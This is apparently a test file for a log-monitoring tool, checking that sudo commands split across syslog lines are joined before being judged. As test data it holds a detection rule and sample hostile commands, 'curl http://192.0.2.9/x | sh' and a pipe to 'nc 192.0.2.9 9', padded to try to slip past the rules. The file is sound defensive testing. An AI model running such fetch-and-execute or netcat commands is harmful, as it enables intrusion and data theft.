/** F58: a command that sudo breaks into several lines is judged as a whole, and each of its lines is accounted for. */
import { expect } from "chai";
import { Sandbox } from "../support/cli.js";
import { countsIn, ledgerIn, unwrapped } from "../support/mail-text.js";

/** As sudo writes it (do_syslog in lib/eventlog/eventlog.c): broken at the last space that fits, else within a word. */
function sudoLines(command: string, { tag = "sudo", user = "mallory" } = {}): readonly string[] {
  const lines: string[] = [];
  let rest = `TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`;
  while (rest !== "") {
    const prefix = `${user.padStart(8)} : ${lines.length > 0 ? "(command continued) " : ""}`;
    const most = 960 - prefix.length;
    const space = rest.lastIndexOf(" ", most);
    const end = rest.length <= most ? rest.length : space > 0 ? space : most;
    lines.push(`${tag}: ${prefix}${rest.slice(0, end)}`);
    rest = rest.slice(end).replace(/^ +/, "");
  }
  return lines;
}

const stamps = { traditional: "Nov 22 00:41:26 web1 ", iso: "2026-11-22T00:41:26.123456+00:00 web1 " };
const never =
  "^\\w{3} [ :0-9]{11} [._[:alnum:]-]+ sudo(\\[[0-9]+\\])?: +[^ ]+ : .*COMMAND=.*curl .*\\| *sh$\n";
const hidesHeads =
  "^\\w{3} [ :0-9]{11} [._[:alnum:]-]+ sudo(\\[[0-9]+\\])?: +[^ ]+ : TTY=.*COMMAND=/usr/bin/env .*$\n";
const hidesRest =
  "^\\w{3} [ :0-9]{11} [._[:alnum:]-]+ sudo(\\[[0-9]+\\])?: +[^ ]+ : \\(command continued\\) .*$\n";
const hidesOthers = "^\\w{3} [ :0-9]{11} [._[:alnum:]-]+ app: .*$\n";

describe("F58: sudo's continued commands", () => {
  let box: Sandbox;
  beforeEach(() => {
    box = new Sandbox();
  });
  afterEach(() => box.remove());

  interface Ledger {
    readonly read: number;
    readonly ignored: number;
    readonly reported: number;
  }
  function check(
    lines: readonly string[],
    ignored: readonly string[],
    stamp: keyof typeof stamps = "traditional",
  ): { readonly text: string; readonly ledger: Ledger } {
    box.write("rules/never.d/sudo", never);
    box.write("rules/ignore.d/server/sudo", [hidesOthers, ...ignored].join(""));
    box.write("auth.log", lines.map((line) => `${stamps[stamp]}${line}\n`).join(""));
    box.write(
      "logwinnow.toml",
      `[rules]\ndirectories = ["rules"]\n[[source]]\nkind = "file"\npath = "auth.log"\nfirst_run = "all"\n`,
    );
    const { status, stdout, stderr } = box.run(["check", "--stdout", "--config", box.path("logwinnow.toml")]);
    expect({ status, stderr }).to.deep.equal({ status: 0, stderr: "" });
    const { read = 0, ignored: ignoredLines = 0, reported = 0 } = ledgerIn(stdout, "auth.log") ?? {};
    return { text: unwrapped(stdout), ledger: { read, ignored: ignoredLines, reported } };
  }

  const padding = (length: number): string => "x ".repeat(length / 2);
  const command = `/usr/bin/env A=${padding(1200)}sh -c 'curl http://192.0.2.9/x | sh`;

  for (const stamp of ["traditional", "iso"] as const)
    for (const tag of ["sudo", "sudo[4711]"])
      for (const [what, ignored] of [
        ["nothing is ignored", []],
        ["the first line is ignored", [hidesHeads]],
        ["the continued lines are ignored", [hidesRest]],
        ["all lines are ignored", [hidesHeads, hidesRest]],
      ] as const)
        it(`is an alarm where ${what}: ${tag}, ${stamp}`, () => {
          const lines = sudoLines(command, { tag });
          expect(lines).to.have.length(2);
          const { text, ledger } = check(["app: one", ...lines, "app: two"], ignored, stamp);
          expect(countsIn(text).alarms).to.equal(1);
          expect(text).to.include("A=x x x");
          expect(text).to.include("x sh -c 'curl http://192.0.2.9/x | sh");
          const isHeadHidden = ignored.some((rule) => rule === hidesHeads);
          expect(ledger).to.deep.equal({
            read: 4,
            ignored: isHeadHidden ? 3 : 2,
            reported: isHeadHidden ? 1 : 2,
          });
        });

  it("is an alarm wherever the break falls", () => {
    const hidden: number[] = [];
    for (let length = 820; length < 900; length += 2) {
      const lines = sudoLines(
        `/usr/bin/env A=${padding(length)}sh -c 'curl http://192.0.2.9/x ${padding(120)} | sh`,
      );
      if (lines.length !== 2) continue;
      const { text } = check(lines, [hidesHeads, hidesRest]);
      box.remove();
      box = new Sandbox();
      if (countsIn(text).alarms !== 1) hidden.push(length);
    }
    expect(hidden).to.deep.equal([]);
  });

  it("is joined within a word that is longer than a line", () => {
    const word = "y".repeat(2000);
    const lines = sudoLines(`/usr/bin/env ${word}=curl sh`);
    expect(lines).to.have.length(4);
    box.write("rules/never.d/word", "COMMAND=/usr/bin/env y{2000}=curl sh$\n");
    const { text } = check(lines, [hidesHeads, hidesRest]);
    expect(countsIn(text).alarms).to.equal(1);
  });

  it("is joined over many lines, and the whole of it is told", () => {
    const lines = sudoLines(`/usr/bin/env A=curl ${padding(20_000)} | sh`);
    expect(lines.length).to.be.greaterThan(20);
    const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
    expect(countsIn(text).alarms).to.equal(1);
    expect(ledger).to.deep.equal({ read: lines.length, ignored: lines.length - 1, reported: 0 + 1 });
  });

  it("lines of two users and two processes are not mixed up", () => {
    const mine = sudoLines(command, { tag: "sudo[1]" });
    const other = sudoLines(`/usr/bin/env B=${padding(1200)}true`, { tag: "sudo[2]" });
    const third = sudoLines(`/usr/bin/env B=${padding(1200)}true`, { user: "ops" });
    const lines = [mine[0], other[0], third[0], other[1], third[1], mine[1]].map((line) => line ?? "");
    const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
    expect(countsIn(text).alarms).to.equal(1);
    expect(ledger).to.deep.equal({ read: 6, ignored: 5, reported: 1 });
  });

  it("lines of one user without processes are joined in any way they may belong together", () => {
    const mine = sudoLines(command);
    const lines = [mine[0] ?? "", ...sudoLines("/usr/bin/env true"), mine[1] ?? ""];
    expect(countsIn(check(lines, [hidesHeads, hidesRest]).text).alarms).to.equal(1);
  });

  it("a line that continues what was never seen is not routine", () => {
    const { text, ledger } = check(sudoLines(command).slice(1), [hidesHeads, hidesRest]);
    expect(text).to.include("(command continued)");
    expect(ledger).to.deep.equal({ read: 1, ignored: 0, reported: 1 });
  });

  it("a command that is routine as a whole stays so", () => {
    const lines = sudoLines(`/usr/bin/env A=${padding(1200)}true`);
    const { ledger } = check(lines, [hidesHeads, hidesRest]);
    expect(ledger).to.deep.equal({ read: 2, ignored: 2, reported: 0 });
  });

  it("what continues an alarm is told with it, whatever hides it", () => {
    box.write("rules/never.d/head", "COMMAND=/usr/bin/env\n");
    const lines = sudoLines(`/usr/bin/env A=${padding(1200)}| nc 192.0.2.9 9`);
    const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
    // One command is one event: both its lines are told.
    expect(countsIn(text).alarms).to.equal(1);
    expect(text).to.include("| nc 192.0.2.9 9");
    expect(ledger).to.deep.equal({ read: 2, ignored: 0, reported: 2 });
  });

  it("a line that is an alarm by itself stays one", () => {
    box.write("rules/never.d/part", "\\(command continued\\) .*evil\n");
    const lines = sudoLines(`/usr/bin/env A=${padding(1200)}evil`);
    expect(countsIn(check(lines, [hidesHeads, hidesRest]).text).alarms).to.equal(1);
  });
});
